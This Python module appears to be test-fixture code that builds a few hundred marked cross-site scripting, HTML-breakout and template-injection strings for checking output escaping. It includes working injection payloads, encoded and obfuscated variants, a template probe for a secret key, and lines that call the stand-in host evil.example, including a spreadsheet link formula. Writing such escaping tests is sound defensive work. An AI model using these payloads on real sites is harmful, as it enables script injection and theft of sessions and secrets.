"""Hostile texts: each tries to be more than text in several places at once.

Each holds its mark, `zq17.`, so that a page can be asked whether it showed it; what it would make of a page
carries `zq` as well. Whoever runs any of it sets `window.zq` or opens a dialog.
"""

from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import quote

MARK = "zq"
EVALUATED = f"{MARK}1337{MARK}"
"""What is on a page where a template read a name as a template."""

_RUN = "window.zq=1,alert(1)"

_ELEMENTS = (
    f"<script class=zq>{_RUN}</script>",
    "<script class=zq src=//evil.example/zq.js></script>",
    f"<img class=zq src=x onerror={_RUN}>",
    f"<svg class=zq onload={_RUN}>",
    f"<svg class=zq><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg class=zq><a xlink:href=javascript:{_RUN}><text y=9>zq</text></a></svg>",
    f"<svg class=zq><script>{_RUN}</script></svg>",
    f"<math class=zq><maction actiontype=statusline xlink:href=javascript:{_RUN}>zq</maction></math>",
    f"<math class=zq><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></mglyph></table></mtext></math>",
    f"<body class=zq onload={_RUN}>",
    f"<details class=zq open ontoggle={_RUN}>",
    f"<input class=zq autofocus onfocus={_RUN}>",
    f"<video class=zq><source onerror={_RUN}></video>",
    f"<iframe class=zq src=javascript:{_RUN}></iframe>",
    f"<iframe class=zq srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<a class=zq href=javascript:{_RUN}>zq</a>",
    f"<a class=zq href='data:text/html,<script>{_RUN}</script>'>zq</a>",
    "<form class=zq action=//evil.example><input name=zq></form>",
    f"<button class=zq formaction=javascript:{_RUN}>zq</button>",
    "<base class=zq href=//evil.example/>",
    "<meta class=zq http-equiv=refresh content=0;url=//evil.example/>",
    "<link class=zq rel=stylesheet href=//evil.example/zq.css>",
    "<style class=zq>*{background:url(//evil.example/zq)}</style>",
    "<p class=zq style=position:fixed;inset:0;background:url(//evil.example/zq)>zq</p>",
    f"<p class=zq hx-on:load={_RUN} hx-on--load={_RUN}>zq</p>",
    "<p class=zq hx-get=data:text/html,zq hx-trigger=load>zq</p>",
    f"<p class=zq hx-get=/sign-out/ hx-trigger=load hx-vals='js:{{zq:{_RUN}}}'>zq</p>",
    "<template class=zq shadowrootmode=open><slot name=zq></slot></template>",
    "<object class=zq data=//evil.example/zq.swf></object>",
    "<marquee class=zq onstart=window.zq=1>zq</marquee>",
    f"<x class=zq contenteditable autofocus onfocus={_RUN} tabindex=1>zq</x>",
)

_BREAKOUTS = (
    *("", '">', "'>", "`>", "--><!-- -->", "</title>", "</textarea>", "</script>", "</style>", "]]>", "*/-->"),
    *("\"'>`", "</noscript>", "</template></p>", "</svg></math>", "</option></select>", "</dialog></details>"),
)

_ATTRIBUTES = (
    f'" onmouseover="{_RUN}" class="zq',
    f"' onfocus='{_RUN}' autofocus class='zq",
    f'" style="animation:zq 1s" onanimationstart="{_RUN}" class="zq',
    f"zq onpointerenter={_RUN} class=zq ",
    f'" hx-on:click="{_RUN}" hx-get="data:text/html,zq" class="zq',
    f'" autofocus onfocus={_RUN} class=zq x="',
)

_ADDRESSES = (
    f"javascript:{_RUN}//zq",
    f"JaVaScRiPt:{_RUN}//zq",
    f"java\tscript:{_RUN}//zq",
    f"\x01javascript:{_RUN}//zq",
    f"data:text/html,<script class=zq>{_RUN}</script>",
    f"vbscript:{_RUN}//zq",
)

_TEMPLATES = (
    "zq{{7*191}}zq",
    "zq{{ 1336|add:1 }}zq",
    "{% now 'Y' %}{% load zq %}{{ settings.SECRET_KEY }}zq{{1336|add:'1'}}zq",
    "${7*191}#{7*191}<%= 7*191 %>zq{{7*191}}zq",
    "{% verbatim %}zq{% comment %}{#",
    "%(zq)s %s {zq} {0}",
)

_DISGUISED = (
    "&lt;script class=zq&gt;window.zq=1&lt;/script&gt;",
    "&#60;img class=zq src=x onerror=alert(1)&#62;",
    quote(f"<svg class=zq onload={_RUN}>"),
    quote(quote(f'"><script class=zq>{_RUN}</script>')),
    "+ADw-script class=zq+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript class=zq\uff1ealert(1)\uff1c/script\uff1e",
    "\\u003cscript class=zq\\u003ealert(1)\\u003c/script\\u003e",
    "\u202e<zq>\u202c \u200b\u2066zq\u2069\ufeff",
    "Z\u0351\u036ba\u0334l\u0321g\u0489o zq \u0000\u0007\u001b[31mzq",
    '=HYPERLINK("//evil.example?zq","zq")',
)


@dataclass(frozen=True, slots=True)
class Polyglot:
    """A hostile text.

    Attributes:
        mark: what it holds, and no other one does.
        text: all of it.
        alive: whether a page that does not escape it is another page for it.
    """

    mark: str
    text: str
    alive: bool

    def cut(self, length: int) -> str:
        """As much of it as a field takes."""
        return self.text[:length]


def _mixed_case(text: str) -> str:
    return "".join(letter.upper() if place % 2 else letter for place, letter in enumerate(text))


_WAYS: tuple[Callable[[str], str], ...] = (
    lambda element: element,
    lambda element: element.replace(" ", "/"),
    lambda element: element.replace(" ", "\n\t"),
    lambda element: element.replace("<script", "<ScRiPt").replace("onerror", "oNeRRor").replace("onload", "OnLoAd"),
    lambda element: element.rstrip(">") + " ",  # never closed: whatever follows does it
    lambda element: "<!--" + element.replace("<", "--><", 1),
    lambda element: element.replace("<", "<\x00<", 1),
    lambda element: element * 2,
)


def polyglots(count: int = 300) -> list[Polyglot]:
    """So many different ones, always the same."""
    texts: list[tuple[str, bool]] = [(text, True) for text in (*_ATTRIBUTES, *_ADDRESSES)]
    texts += [(text, "1337" in text or "191" in text or "1336" in text) for text in _TEMPLATES]
    texts += [(text, False) for text in _DISGUISED]
    place = 0
    while len(texts) < count:
        breakout, element = _BREAKOUTS[place % len(_BREAKOUTS)], _ELEMENTS[place % len(_ELEMENTS)]
        way = _WAYS[(place // len(_ELEMENTS)) % len(_WAYS)]
        texts.append((breakout + way(element), True))
        place += 1
    return [_marked(number, text, alive=alive) for number, (text, alive) in enumerate(texts)]


def _marked(number: int, text: str, *, alive: bool) -> Polyglot:
    mark = f"{MARK}{number}."
    # An address is one only from its first letter on.
    return Polyglot(mark, f"{text}{mark}" if text in _ADDRESSES else f"{mark}{text}", alive)
